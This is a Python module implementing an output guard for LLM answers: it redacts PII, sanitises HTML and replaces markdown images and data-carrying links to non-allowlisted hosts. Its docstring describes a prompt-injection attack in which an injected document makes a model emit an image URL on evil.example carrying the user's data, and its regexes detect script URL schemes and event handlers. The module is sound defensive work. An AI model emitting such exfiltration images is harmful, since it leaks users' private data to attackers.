"""Output guard: PII redaction, markdown exfiltration neutralised, HTML sanitised, risky content checked.

A model that read an injected document can be told to emit `![x](https://evil.example/?q=<the user's data>)`: the
chat client fetches the image and the data leaves. So images from hosts that are not allowlisted are replaced by a
plain-text marker, as are links, autolinks and reference definitions to such hosts that carry query data, and any
`javascript:`/`data:` URL. Everything here is standard library only.

Usage::

    guard = OutputGuard(Guard(), allowed_hosts=["docs.example.com"])
    checked = guard.run(answer_text)
    checked.text, checked.redactions, checked.check.action
"""

from __future__ import annotations

import html
import re
from collections.abc import Iterable
from dataclasses import dataclass
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlsplit

from app.guards.detector import Guard, GuardPolicy, GuardResult
from app.guards.pii import PII_KINDS, redact_pii

__all__ = ["OutputCheck", "OutputGuard", "neutralise_links", "redact_pii", "sanitize_html", "url_is_safe"]

_URL = r"<?((?:[^\s()<>]|\([^\s()<>]*\))+)>?"  # one level of balanced parentheses, as CommonMark allows
_TITLE = r"(?:\s+[\"'][^\"'\n]*[\"'])?"
_MD_IMAGE = re.compile(rf"!\[([^\]\n]{{0,500}})\]\(\s*{_URL}{_TITLE}\s*\)")
_MD_LINK = re.compile(rf"(?<!!)\[([^\]\n]{{0,500}})\]\(\s*{_URL}{_TITLE}\s*\)")
_AUTOLINK = re.compile(r"<((?:https?|ftp|javascript|data|vbscript):[^\s>]+)>", re.IGNORECASE)
_REF_DEF = re.compile(r"^( {0,3}\[[^\]\n]+\]:[ \t]*)<?(\S+?)>?(?=[ \t]|$)", re.MULTILINE)
_HTML_MEDIA = re.compile(
    r"<(?:img|image|iframe|video|audio|source|embed|object|input)\b[^>]*?\b(?:src|data|srcset|poster)\s*=\s*"
    r"[\"']?([^\"'\s>]+)[^>]*>",
    re.IGNORECASE,
)
_HANDLER = re.compile(r"\bon\w+\s*=", re.IGNORECASE)
_BAD_SCHEMES = ("javascript", "vbscript", "data", "file")
_STRIP_FOR_SCHEME = re.compile(r"[\x00-\x20\x7f]+")


def _host(url: str) -> str:
    return (urlsplit(url).hostname or "").lower()


def url_is_safe(url: str, allowed_hosts: Iterable[str] = ()) -> bool:
    """A URL without a script scheme whose host is allowlisted (or a subdomain of one), or relative with no host."""
    compact = _STRIP_FOR_SCHEME.sub("", html.unescape(url)).lower()
    if compact.split(":", 1)[0] in _BAD_SCHEMES:
        return False
    host = _host(compact if "//" in compact else "")
    return not host or any(host == h or host.endswith("." + h) for h in (a.lower() for a in allowed_hosts))


def _carries_data(url: str) -> bool:
    parts = urlsplit(url)
    return bool(parts.query or parts.fragment or re.search(r"/[A-Za-z0-9+/=_-]{32,}", parts.path))


def neutralise_links(text: str, allowed_hosts: Iterable[str] = ()) -> tuple[str, list[dict[str, Any]]]:
    """Replace exfiltration channels by plain-text markers.

    Markdown images to hosts not allowlisted go, raw HTML media tags unless their host is allowlisted and they have
    no `on*` handler; links, autolinks and reference definitions go when their host is not allowlisted and the URL
    carries data (query, fragment or a long token in the path); script URLs always go.

    Returns:
        The text and `{"kind": "image"|"link", "url", "host"}` for each URL neutralised.
    """
    allowed = tuple(allowed_hosts)
    found: list[dict[str, Any]] = []

    def drop(kind: str, url: str) -> str:
        host = _host(url) or url.split(":", 1)[0].lower()
        found.append({"kind": kind, "url": url, "host": host})
        return f"[{kind} removed: {host}]"

    def link_ok(url: str) -> bool:
        return url_is_safe(url, allowed) or not _carries_data(url) and _host(url) != ""

    def media_ok(tag: str, url: str) -> bool:  # raw HTML media only from an allowlisted host, without handlers
        return bool(_host(url)) and url_is_safe(url, allowed) and not _HANDLER.search(tag)

    text = _MD_IMAGE.sub(lambda m: m.group(0) if url_is_safe(m.group(2), allowed) else drop("image", m.group(2)), text)
    text = _HTML_MEDIA.sub(
        lambda m: m.group(0) if media_ok(m.group(0), m.group(1)) else drop("image", m.group(1)), text
    )
    text = _MD_LINK.sub(
        lambda m: m.group(0) if link_ok(m.group(2)) else f"{m.group(1)} {drop('link', m.group(2))}", text
    )
    text = _AUTOLINK.sub(lambda m: m.group(0) if link_ok(m.group(1)) else drop("link", m.group(1)), text)
    text = _REF_DEF.sub(lambda m: m.group(0) if link_ok(m.group(2)) else m.group(1) + drop("link", m.group(2)), text)
    return text, found


_ALLOWED_TAGS = frozenset(
    "a abbr b blockquote br caption code dd del div dl dt em h1 h2 h3 h4 h5 h6 hr i ins kbd li ol p pre q s small "
    "span strong sub sup table tbody td tfoot th thead tr u ul".split()
)
_ALLOWED_ATTRS = {"a": {"href", "title"}, "abbr": {"title"}, "td": {"colspan", "rowspan"}, "th": {"colspan", "rowspan"}}
_DROP_WITH_CONTENT = frozenset(
    "script style iframe object embed template noscript svg math textarea select head".split()
)
_VOID = frozenset("br hr".split())


class _Sanitiser(HTMLParser):
    def __init__(self, allowed_hosts: tuple[str, ...]) -> None:
        super().__init__(convert_charrefs=True)
        self.allowed_hosts = allowed_hosts
        self.out: list[str] = []
        self.skip = 0  # depth inside a tag whose content is dropped

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _DROP_WITH_CONTENT:
            self.skip += 1
        elif tag in _ALLOWED_TAGS and not self.skip:
            kept = []
            for name, value in attrs:
                if name in _ALLOWED_ATTRS.get(tag, ()) and value is not None:
                    if name == "href" and not url_is_safe(value, self.allowed_hosts) and not _web_url(value):
                        continue
                    kept.append(f' {name}="{html.escape(value, quote=True)}"')
            if tag == "a" and any(k.startswith(" href=") for k in kept):
                kept.append(' rel="nofollow noopener noreferrer"')
            self.out.append(f"<{tag}{''.join(kept)}>")

    def handle_endtag(self, tag: str) -> None:
        if tag in _DROP_WITH_CONTENT:
            self.skip = max(0, self.skip - 1)
        elif tag in _ALLOWED_TAGS and tag not in _VOID and not self.skip:
            self.out.append(f"</{tag}>")

    def handle_data(self, data: str) -> None:
        if not self.skip:
            self.out.append(html.escape(data, quote=False))


def _web_url(url: str) -> bool:
    compact = _STRIP_FOR_SCHEME.sub("", html.unescape(url)).lower()
    return compact.startswith(("http://", "https://", "mailto:"))


def sanitize_html(markup: str, allowed_hosts: Iterable[str] = ()) -> str:
    """HTML safe to render: a small allowlist of formatting tags, no attributes but `href` (http, https, mailto or
    relative), `title` and table spans; scripts, styles, frames and their content are dropped, text is escaped,
    comments go. Links get `rel="nofollow noopener noreferrer"`."""
    parser = _Sanitiser(tuple(allowed_hosts))
    parser.feed(markup)
    parser.close()
    return "".join(parser.out)


@dataclass(frozen=True)
class OutputCheck:
    text: str  # what may be shown: PII redacted, links neutralised, HTML sanitised when asked
    redactions: list[dict[str, Any]]  # spans in the original output
    neutralised: list[dict[str, Any]]
    check: GuardResult | None  # the guard's verdict on the raw output (kind "output"); None without a guard


class OutputGuard:
    """Runs over a model's answer before it is returned.

    Args:
        guard: the detector for risky content (kind "output"); None skips that check.
        pii_kinds: which PII kinds to redact (default all; () redacts none).
        allowed_hosts: hosts images and data-carrying links may point to.
        html: also sanitise the text as HTML (for clients that render it as HTML).
    """

    def __init__(
        self,
        guard: Guard | None = None,
        pii_kinds: Iterable[str] = PII_KINDS,
        allowed_hosts: Iterable[str] = (),
        html: bool = False,
    ) -> None:
        self.pii_kinds = tuple(pii_kinds)
        if unknown := set(self.pii_kinds) - set(PII_KINDS):
            raise ValueError(f"unknown PII kinds {sorted(unknown)}; valid: {list(PII_KINDS)}")
        self.guard = guard
        self.allowed_hosts = tuple(h.lower() for h in allowed_hosts)
        self.html = html

    def run(self, text: str, policy: GuardPolicy | None = None) -> OutputCheck:
        check = self.guard.check(text, "output", policy) if self.guard is not None else None
        text, redactions = redact_pii(text, self.pii_kinds) if self.pii_kinds else (text, [])
        text, neutralised = neutralise_links(text, self.allowed_hosts)
        if self.html:
            text = sanitize_html(text, self.allowed_hosts)
        return OutputCheck(text, redactions, neutralised, check)
